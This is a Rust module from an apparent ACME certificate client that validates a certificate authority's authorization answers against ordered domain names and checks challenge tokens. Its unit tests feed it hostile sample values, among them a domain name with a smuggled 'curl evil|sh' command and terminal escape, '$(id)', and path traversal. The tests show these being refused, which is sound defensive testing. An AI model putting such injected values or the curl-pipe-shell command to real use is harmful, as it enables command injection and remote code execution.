//! Checks the authority's answers against the order. A person makes the records that it requests, so it may request
//! only those of the order.

use crate::AcmeError;
use crate::terms::cut;
use std::collections::BTreeSet;

/// Maximum length of a challenge token.
const LONGEST_TOKEN: usize = 512;

/// The names of an order, in lower case.
pub(crate) struct Ordered<'a> {
    host: &'a str,
    names: BTreeSet<String>,
}

impl<'a> Ordered<'a> {
    pub(crate) fn new(host: &'a str, names: &[&str]) -> Self {
        Self {
            host,
            names: names.iter().map(|name| normal(name)).collect(),
        }
    }

    /// Maximum number of authorizations.
    pub(crate) fn count(&self) -> usize {
        self.names.len()
    }

    /// The ordered name that an authorization is for. An authority may leave open whether it means the wildcard.
    pub(crate) fn name_of(&self, identifier: &str, wildcard: bool) -> Result<String, AcmeError> {
        let base = without_wildcard(&normal(identifier)).to_owned();
        let under = format!("*.{base}");
        let candidates = if wildcard {
            [&under, &base]
        } else {
            [&base, &under]
        };
        let found = candidates.into_iter().find(|name| self.names.contains(*name));
        found.cloned().ok_or_else(|| AcmeError::NotOrdered {
            host: self.host.to_owned(),
            name: cut(identifier),
        })
    }

    /// Whether every ordered name has an authorization.
    pub(crate) fn all_in<'b>(&self, answered: impl Iterator<Item = &'b str>) -> Result<(), AcmeError> {
        let proven: BTreeSet<&str> = answered.map(without_wildcard).collect();
        let missing = self
            .names
            .iter()
            .find(|name| !proven.contains(without_wildcard(name)));
        missing.map_or(Ok(()), |name| {
            Err(AcmeError::LeftOut {
                host: self.host.to_owned(),
                name: name.clone(),
            })
        })
    }

    /// A token must be base64url.
    pub(crate) fn check_token(&self, name: &str, token: &str) -> Result<(), AcmeError> {
        let fits = |letter: u8| letter.is_ascii_alphanumeric() || matches!(letter, b'-' | b'_');
        if (1..=LONGEST_TOKEN).contains(&token.len()) && token.bytes().all(fits) {
            return Ok(());
        }
        Err(AcmeError::BadToken {
            host: self.host.to_owned(),
            name: name.to_owned(),
        })
    }
}

fn normal(name: &str) -> String {
    let name = name.trim();
    name.strip_suffix('.').unwrap_or(name).to_ascii_lowercase()
}

fn without_wildcard(name: &str) -> &str {
    name.strip_prefix("*.").unwrap_or(name)
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOST: &str = "ca.example";

    #[test]
    fn an_answer_about_another_name_is_refused() {
        let ordered = Ordered::new(
            HOST,
            &[
                "A.contoso.com",
                "*.b.contoso.com",
                "c.contoso.com",
                "*.c.contoso.com",
            ],
        );
        for (identifier, wildcard, name) in [
            ("a.contoso.com", false, "a.contoso.com"),
            ("A.CONTOSO.com.", false, "a.contoso.com"),
            ("b.contoso.com", true, "*.b.contoso.com"),
            ("b.contoso.com", false, "*.b.contoso.com"),
            ("*.b.contoso.com", true, "*.b.contoso.com"),
            ("c.contoso.com", false, "c.contoso.com"),
            ("c.contoso.com", true, "*.c.contoso.com"),
        ] {
            assert_eq!(ordered.name_of(identifier, wildcard).ok().as_deref(), Some(name));
        }
        for stranger in [
            "x;curl evil|sh;\u{1b}[31m.victim.example",
            "contoso.com",
            "x.a.contoso.com",
            "a.contoso.com.evil.example",
            "d.contoso.com",
            "",
            "*",
        ] {
            let error = ordered.name_of(stranger, false).unwrap_err();
            assert!(
                matches!(&error, AcmeError::NotOrdered { host, name } if host == HOST && name == stranger),
                "{error}"
            );
        }
        assert_eq!(ordered.count(), 4);
    }

    #[test]
    fn every_ordered_name_needs_an_answer() {
        let ordered = Ordered::new(HOST, &["a.contoso.com", "*.b.contoso.com"]);
        assert!(
            ordered
                .all_in(["a.contoso.com", "*.b.contoso.com"].into_iter())
                .is_ok()
        );
        let error = ordered.all_in(["a.contoso.com"].into_iter()).unwrap_err();
        assert!(
            matches!(&error, AcmeError::LeftOut { name, .. } if name == "*.b.contoso.com"),
            "{error}"
        );
        assert!(ordered.all_in(std::iter::empty()).is_err());
    }

    #[test]
    fn tokens_are_base64url() {
        let ordered = Ordered::new(HOST, &["a"]);
        for (token, good) in [
            ("LoqXcYV8q5ONbJQxbmR7SCTNo3tiAXDfowyjxAjEuX0", true),
            ("-_", true),
            ("", false),
            ("a b", false),
            ("a=", false),
            ("../x", false),
            ("$(id)", false),
            ("a\n", false),
            ("å", false),
        ] {
            assert_eq!(ordered.check_token("a", token).is_ok(), good, "{token:?}");
        }
        assert!(ordered.check_token("a", &"a".repeat(513)).is_err());
    }
}
